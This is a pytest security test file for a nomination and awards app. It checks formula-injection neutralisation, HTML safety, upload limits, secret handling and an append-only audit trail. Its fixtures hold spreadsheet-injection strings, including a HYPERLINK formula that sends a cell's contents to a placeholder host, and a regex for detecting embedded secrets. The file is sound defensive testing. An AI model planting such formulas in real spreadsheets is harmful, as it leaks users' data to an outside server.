"""Hardening: formula injection on every write path, no HTML from user data, upload limits, secrets
kept out of logs, and an append-only audit trail (history) that records who, when and why."""

from __future__ import annotations

import ast
import io
import logging
import re
import sqlite3
import tomllib
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import openpyxl
import pytest
from security_helpers import OpenSecureApp, logged_in

from core.errors import FieldError
from exports import xlsx
from exports.build import export
from reporting.reporting import Reporting
from services import intake
from services.services import Services
from tests.conftest import ADMIN, OFFICER, REVIEWER
from workflows.loader import load_campaigns

ROOT = Path(__file__).resolve().parents[2]
CAMPAIGN = "HN-2024-KTN"
#: Cells a spreadsheet would run as a formula (OWASP "CSV injection").
TRIGGERS = ("=1+1", "+SUM(A1:A2)", "-2+3", "@SUM(1)", "\t=cmd", "\r=cmd")
HYPERLINK = '=HYPERLINK("http://x.invalid/?q="&A1,"Bấm vào đây để xem đầy đủ thành tích")'


def source_files(*roots: str) -> Iterator[Path]:
    """Application source (not tests, not the virtualenv)."""
    for root in roots:
        path = ROOT / root
        if path.is_file():
            yield path
        else:
            yield from sorted(p for p in path.rglob("*.py") if "__pycache__" not in p.parts)


APP_SOURCES = (
    "app.py",
    "app_pages",
    "core",
    "exports",
    "storage",
    "workflows",
    "schemas",
    "cli.py",
    "bootstrap.py",
)


def raw_cell(db: Path, tab: str, row_id: str, column: str) -> object:
    conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    try:
        return conn.execute(f'SELECT "{column}" FROM "{tab}" WHERE id = ?', (row_id,)).fetchone()[0]
    finally:
        conn.close()


def no_formula_in(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                sheet = z.read(name).decode()
                assert "<f>" not in sheet and "<f " not in sheet, name


# ------------------------------------------------------------------ formula injection


def test_formula_text_is_stored_as_typed_and_exported_neutralised(
    services: Services, demo_db: Path, nomination_values: Callable[..., dict[str, str]]
) -> None:
    """Services -> SQLite keep the text verbatim; the .xlsx list shows it as text, never a formula."""
    created = services.create(
        OFFICER, CAMPAIGN, "nomination", nomination_values(achievement=HYPERLINK, position="=1+1")
    )
    row = services.get(OFFICER, "nominations", created["id"])
    assert raw_cell(demo_db, "nominations", row["id"], "achievement") == HYPERLINK
    assert raw_cell(demo_db, "nominations", row["id"], "position") == "=1+1"
    reason = "@SUM(1) thiếu minh chứng, bổ sung giúp"
    back = services.act(REVIEWER, "nominations", row["id"], int(row["version"]), "return", reason)
    assert raw_cell(demo_db, "nominations", row["id"], "last_reason") == reason
    h = services.store.read("history")
    assert reason in set(h[h["row_id"] == row["id"]]["reason"])
    out = export(Reporting(services), REVIEWER, "xlsx", CAMPAIGN, tab="nominations")
    no_formula_in(out.data)
    cells = {
        c.value for ws in openpyxl.load_workbook(io.BytesIO(out.data)) for r in ws.iter_rows() for c in r
    }
    assert "'=1+1" in cells and "=1+1" not in cells
    assert int(back["version"]) > int(row["version"])


@pytest.mark.parametrize("text", TRIGGERS)
def test_every_trigger_is_neutralised_in_xlsx_lists(text: str) -> None:
    """Mirrors tests/exports/test_xlsx.py::test_formula_injection_is_neutralised for the helper itself."""
    assert xlsx.safe_text(text) == "'" + text
    assert xlsx.safe_text("Nguyễn " + text) == "Nguyễn " + text


def test_intake_workbooks_never_hold_a_formula() -> None:
    """The template filled by the app and the rejected-rows workbook keep text as text."""
    annual = load_campaigns()[CAMPAIGN]
    rows = [
        {
            "subject_kind": "CA_NHAN",
            "full_name": f"Người {i}",
            "position": text,
            "award_code": "LDTT",
            "achievement": text + " hoàn thành xuất sắc nhiệm vụ năm 2024",
        }
        for i, text in enumerate((*TRIGGERS, HYPERLINK))
    ]
    filled = intake.fill(intake.template(annual, "nomination", "vi"), rows)
    no_formula_in(filled)
    up = intake.read_upload("m.xlsx", filled, campaign=annual, form="nomination")
    assert [r["position"] for r in up.rows][:1] == ["=1+1"]
    errors = [FieldError(n, "Chức vụ", "x", "bad_length", {"min": 1, "max": 2}) for n in up.row_numbers]
    no_formula_in(intake.rejected_rows_xlsx(annual, up, errors, "vi"))


def test_google_adapter_writes_raw_only() -> None:
    """Every values write to Google Sheets is RAW (USER_ENTERED would parse '=...' as a formula);
    the behaviour itself is tested on the emulator in tests/gsheets/test_raw_text.py."""
    text = "\n".join(
        p.read_text(encoding="utf-8") for p in sorted((ROOT / "storage" / "gsheets").glob("*.py"))
    )
    assert "USER_ENTERED" not in text and "formulaValue" not in text
    # values are written as cells (updateCells/appendCells: stringValue/numberValue), or as RAW values
    assert set(re.findall(r'"valueInputOption":\s*"(\w+)"', text)) <= {"RAW"}
    assert "stringValue" in text


# ------------------------------------------------------------------ HTML


def test_no_unsafe_html_in_the_pages() -> None:
    """No ``unsafe_allow_html=True``, ``st.html`` or ``components.html`` anywhere in the UI, except
    ``st.html`` of a module constant written in the source (the sidebar's phone script): no user text
    can reach it."""
    offenders = []
    for path in source_files("app.py", "app_pages"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        constants = {
            t.id
            for node in tree.body
            if isinstance(node, ast.Assign) and isinstance(node.value, ast.Constant)
            for t in node.targets
            if isinstance(t, ast.Name) and t.id.isupper() and isinstance(node.value.value, str)
        }
        for node in ast.walk(tree):
            if isinstance(node, ast.Call):
                for kw in node.keywords:
                    if kw.arg == "unsafe_allow_html" and not (
                        isinstance(kw.value, ast.Constant) and kw.value.value is False
                    ):
                        offenders.append(f"{path.name}:{node.lineno} unsafe_allow_html")
                func = node.func
                fixed = (
                    bool(node.args) and isinstance(node.args[0], ast.Name) and node.args[0].id in constants
                )
                if isinstance(func, ast.Attribute) and func.attr == "html" and not fixed:
                    offenders.append(f"{path.name}:{node.lineno} .html()")
    assert not offenders, offenders


# ------------------------------------------------------------------ uploads


def test_every_file_uploader_restricts_the_file_type() -> None:
    """Type checks in the widget; size, macro and content checks in services/intake.py (tests/intake)."""
    found = 0
    for path in source_files("app.py", "app_pages"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr == "file_uploader"
            ):
                found += 1
                assert any(kw.arg == "type" for kw in node.keywords), f"{path.name}:{node.lineno}"
    assert found


def test_uploads_over_the_limit_are_refused_before_parsing() -> None:
    with pytest.raises(intake.UploadRejected) as exc:
        intake.read_upload(
            "big.xlsx", b"\0" * 2048, campaign=load_campaigns()[CAMPAIGN], form="nomination", max_bytes=1024
        )
    assert exc.value.message("vi")


def test_streamlit_upload_limit_matches_intake() -> None:
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config.get("server", {}).get("maxUploadSize", 200) * 1024 * 1024 <= intake.MAX_UPLOAD_BYTES


# ------------------------------------------------------------------ secrets


FAKE_SECRET = "fake-secret-Zq9vX2-never-log-me"


def test_secrets_are_never_logged(open_app: OpenSecureApp, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    at = open_app(identity=logged_in(ADMIN.email))
    at.secrets["auth"] = {"client_secret": FAKE_SECRET, "cookie_secret": FAKE_SECRET}
    at.secrets["connections"] = {"gsheets": {"private_key": FAKE_SECRET}}
    at.run()
    for page in ("dashboard", "review", "admin"):
        at.switch_page(f"app_pages/{page}.py").run()
    at.session_state["actor"] = ADMIN.__class__(
        ADMIN.email, ADMIN.name, "LEADER", ADMIN.unit_id
    )  # refused, logged
    at.run()
    assert "session actor" in caplog.text  # the refusal was logged...
    assert FAKE_SECRET not in caplog.text  # ...without any secret


def test_secrets_come_only_from_secrets_or_environment() -> None:
    """No literal credential in the sources: keys, client secrets and cookie secrets are read from
    st.secrets, .streamlit/secrets.toml or the environment."""
    pattern = re.compile(
        r"(BEGIN (RSA )?PRIVATE KEY|client_secret\s*=\s*['\"][^'\"]{8,}|cookie_secret\s*=\s*['\"])"
    )
    offenders = [
        str(p.relative_to(ROOT))
        for p in source_files(*APP_SOURCES)
        if pattern.search(p.read_text(encoding="utf-8"))
    ]
    assert not offenders, offenders
    assert (
        not (ROOT / ".streamlit" / "secrets.toml").exists()
        or ".streamlit/secrets.toml" in (ROOT / ".gitignore").read_text()
    )


# ------------------------------------------------------------------ audit trail


WRITE_METHODS = {"update", "delete", "delete_rows", "clear", "batch_clear", "replace", "truncate"}


def test_history_is_append_only_in_every_code_path() -> None:
    """No call updates, deletes or clears the history tab, and no SQL touches it except INSERT."""
    offenders = []
    for path in source_files(*APP_SOURCES):
        text = path.read_text(encoding="utf-8")
        for node in ast.walk(ast.parse(text)):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr in WRITE_METHODS
            ):
                args = [*node.args[:1], *(kw.value for kw in node.keywords if kw.arg == "tab")]
                if any(isinstance(a, ast.Constant) and a.value == "history" for a in args):
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
        if re.search(r"(UPDATE|DELETE FROM)\s+\"?history", text, re.IGNORECASE):
            offenders.append(f"{path.relative_to(ROOT)}: SQL on history")
    assert not offenders, offenders


def test_every_change_is_in_history_with_actor_time_and_reason(
    services: Services, nomination_values: Callable[..., dict[str, str]]
) -> None:
    created = services.create(OFFICER, CAMPAIGN, "nomination", nomination_values(), submit=False)
    row = services.get(OFFICER, "nominations", created["id"])
    edited = services.edit(
        OFFICER, "nominations", row["id"], int(row["version"]), nomination_values(position="Tổ phó")
    )
    submitted = services.act(OFFICER, "nominations", row["id"], int(edited["version"]), "submit")
    services.act(
        REVIEWER,
        "nominations",
        row["id"],
        int(submitted["version"]),
        "return",
        "Thiếu bản thành tích có xác nhận",
    )
    h = services.store.read("history")
    mine = h[h["row_id"] == row["id"]].sort_values("created_at")
    assert list(mine["action"]) == ["create", "edit", "submit", "return"]
    assert list(mine["actor_email"]) == [OFFICER.email] * 3 + [REVIEWER.email]
    assert list(mine["actor_role"]) == ["UNIT_OFFICER"] * 3 + ["UPPER_REVIEWER"]
    assert mine["at"].str.startswith("2024-12-05").all()
    assert list(mine["reason"])[-1] == "Thiếu bản thành tích có xác nhận"


def test_a_full_export_is_recorded_in_history(services: Services) -> None:
    before = len(services.store.read("history"))
    export(Reporting(services), REVIEWER, "xlsx", CAMPAIGN, tab="nominations")
    h = services.store.read("history")
    assert len(h) == before + 1
    last = h.iloc[-1]
    assert (
        last["action"] == "export"
        and last["actor_email"] == REVIEWER.email
        and last["campaign_id"] == CAMPAIGN
    )
